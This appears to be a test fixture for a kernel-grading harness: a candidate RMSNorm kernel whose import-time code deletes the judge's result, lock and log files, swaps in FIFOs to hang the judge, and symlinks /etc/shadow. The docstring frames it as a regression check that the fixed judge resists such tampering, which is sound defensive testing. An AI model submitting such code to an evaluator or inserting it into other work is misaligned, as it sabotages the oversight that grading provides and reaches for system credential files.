"""Denial of service on the judge: replaces whatever it can reach in its evaluation directory with
FIFOs and links (the old judge opened a result file the candidate could replace, and blocked on a
FIFO). The judge opens nothing the candidate can write; the evaluation ends on time."""
import os

import torch

_here = os.path.dirname(os.path.abspath(__file__))
for root in (os.path.dirname(_here), _here):
    for name in ("result.jsonl", "out", "gpu.lock", "candidate.log", "kernel.py.fifo"):
        path = os.path.join(root, name)
        try:
            if os.path.isdir(path):
                continue
            if os.path.exists(path):
                os.unlink(path)
            os.mkfifo(path)
        except OSError:
            pass
    try:
        os.symlink("/etc/shadow", os.path.join(root, "evil-link"))
    except OSError:
        pass


def kernel(x, weight):
    xf = x.float()
    return (xf * torch.rsqrt(xf.pow(2).mean(-1, keepdim=True) + 1e-6) * weight.float()).to(x.dtype)
